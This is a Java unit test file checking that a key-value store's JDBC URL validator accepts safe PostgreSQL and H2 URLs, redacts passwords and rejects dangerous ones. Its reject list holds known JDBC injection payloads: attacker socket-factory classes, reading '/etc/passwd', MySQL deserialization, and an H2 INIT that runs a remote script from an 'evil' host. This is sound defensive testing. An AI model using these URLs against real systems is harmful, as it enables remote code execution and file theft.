package io.keyvalueserve.stores;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.keyvalueserve.stores.StoreException.Kind;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class StoreAddressTest {
  private static StoreAddress address(String url) {
    return new StoreAddress(url, null, null, 1, Duration.ofSeconds(1));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://db.example.com:5432/shop",
        "jdbc:postgresql://[::1]:5432/shop?user=u&sslmode=verify-full",
        "jdbc:postgresql://a:1,b:2/shop?targetServerType=primary",
        "jdbc:postgresql://h/shop?sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory",
        "jdbc:postgresql:shop",
        "jdbc:postgresql://h/",
        "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;mode=PostgreSQL",
        "jdbc:h2:file:/var/lib/x",
        "jdbc:h2:tcp://host:9092/~/test",
      })
  void takesUrls(String url) {
    assertThat(address(url).jdbcUrl()).isEqualTo(url);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://h/d?socketFactory=org.Evil&socketFactoryArg=x",
        "jdbc:postgresql://h/d?user=a&socketFactoryArg=x",
        "jdbc:postgresql://h/d?sslfactory=org.Evil",
        "jdbc:postgresql://h/d?sslfactory=org.postgresql.ssl.SingleCertValidatingFactory",
        "jdbc:postgresql://h/d?sslfactoryarg=file:/etc/passwd",
        "jdbc:postgresql://h/d?sslpasswordcallback=org.Evil",
        "jdbc:postgresql://h/d?sslhostnameverifier=org.Evil",
        "jdbc:postgresql://h/d?sslcert=/etc/passwd",
        "jdbc:postgresql://h/d?authenticationPluginClassName=org.Evil",
        "jdbc:postgresql://h/d?loggerLevel=TRACE&loggerFile=/tmp/x",
        "jdbc:postgresql://h/d?jaasApplicationName=x",
        "jdbc:postgresql://h/d?xmlFactoryFactory=org.Evil",
        "jdbc:postgresql://h/d?options=-c%20x",
        "jdbc:postgresql://h/d?service=x",
        "jdbc:postgresql://h/d?%73ocketFactory=org.Evil",
        "jdbc:postgresql://h/d?SocketFactory=org.Evil",
        "jdbc:postgresql://h/d?a?socketFactory=org.Evil",
        "jdbc:postgresql://h/d?socketFactory",
        "jdbc:postgresql://u:pa55word@h/d",
        "jdbc:postgresql://h/d;INIT=x",
        "jdbc:postgresql://h/d/../x",
        "jdbc:postgresql://h/d#x",
        "jdbc:postgresql://h/d?password=pa55word&pa55word",
        "jdbc:postgresql://h/d?password=a%zz",
        "jdbc:postgresql://h/d?password=a&password=b",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:mem:x;INIT=CREATE",
        "jdbc:h2:mem:x;init=CREATE",
        "jdbc:h2:mem:x;\u0131n\u0131t=CREATE",
        "jdbc:h2:mem:x;MODE=A\\;INIT=CREATE",
        "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4",
        "jdbc:h2:mem:x;AUTO_SERVER=TRUE",
        "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='org.Evil'",
        "jdbc:h2:mem:x;JAVA_OBJECT_SERIALIZER='org.Evil'",
        "jdbc:h2:mem:x;PASSWORD=pa55word;pa55word",
        "jdbc:h2:~/test",
        "jdbc:h2:./test",
        "jdbc:h2:zip:a.zip!/x",
        "jdbc:h2:file:zip:a.zip!/x",
        "jdbc:h2:file:classpath:x",
        "jdbc:h2:nio:x",
        "jdbc:mysql://h/d?autoDeserialize=true",
        "jdbc:derby:x;create=true",
        "JDBC:POSTGRESQL://h/d",
        "postgresql://h/d",
        "jdbc:postgresql://h/d\n?user=x",
        "",
      })
  void refusesUrlsThatDoMore(String url) {
    assertThatThrownBy(() -> address(url))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith("jdbcUrl: ")
        .hasMessageNotContaining("pa55word");
  }

  @Test
  void namesWhatItRefuses() {
    assertThatThrownBy(() -> address("jdbc:postgresql://h/d?socketFactory=x"))
        .hasMessageContainingAll("socketFactory", "allowed are", "sslmode");
    assertThatThrownBy(() -> address("jdbc:h2:mem:x;init=x")).hasMessageContainingAll("INIT");
  }

  @Test
  void aPasswordOfTheUrlIsTakenOutOfIt() {
    StoreAddress address = address("jdbc:postgresql://h/d?user=u&password=p%26ss+w&ssl=true");
    assertThat(address.jdbcUrl()).isEqualTo("jdbc:postgresql://h/d?user=u&ssl=true");
    assertThat(address.password()).isEqualTo("p&ss w");
    assertThat(address.toString()).doesNotContain("p&ss", "p%26").contains("***", "jdbc:postgres");
    StoreAddress h2 = address("jdbc:h2:mem:x;password=pa55word");
    assertThat(h2.jdbcUrl()).isEqualTo("jdbc:h2:mem:x");
    assertThat(h2.password()).isEqualTo("pa55word");
    assertThatThrownBy(
            () ->
                new StoreAddress(
                    "jdbc:h2:mem:x;password=pa55word", "u", "other", 1, Duration.ofSeconds(1)))
        .hasMessageStartingWith("password: ")
        .hasMessageNotContainingAny("pa55word", "other");
  }

  @Test
  void boundsPoolAndTimeout() {
    for (int size : new int[] {0, -1, 101}) {
      assertThatThrownBy(
              () -> new StoreAddress("jdbc:h2:mem:x", null, null, size, Duration.ofSeconds(1)))
          .isInstanceOf(IllegalArgumentException.class)
          .hasMessageContainingAll("poolSize", "1 to 100");
    }
    for (Duration timeout : new Duration[] {Duration.ofMillis(99), Duration.ofMinutes(6)}) {
      assertThatThrownBy(() -> new StoreAddress("jdbc:h2:mem:x", null, null, 1, timeout))
          .isInstanceOf(IllegalArgumentException.class)
          .hasMessageContainingAll("timeout", "5 minutes");
    }
  }

  @Test
  void specsAreChecked() {
    assertThatThrownBy(() -> new TableSpec(" ", "k", List.of()))
        .hasMessageContaining("table: is empty");
    assertThatThrownBy(() -> new TableSpec("t", "k", List.of("v", "v")))
        .hasMessageContaining("'v' is there twice");
    assertThatThrownBy(() -> new TableSpec("t", "k", List.of("k")))
        .hasMessageContaining("'k' is there twice");
  }

  @Test
  void aUrlThatNoDriverTakesIsMisconfigured() {
    assertThatThrownBy(() -> new Database(address("jdbc:postgresql://h:99999999/d")))
        .isInstanceOf(StoreException.class)
        .hasMessageContainingAll("no JDBC driver", "class path")
        .extracting("kind")
        .isEqualTo(Kind.MISCONFIGURED);
  }
}
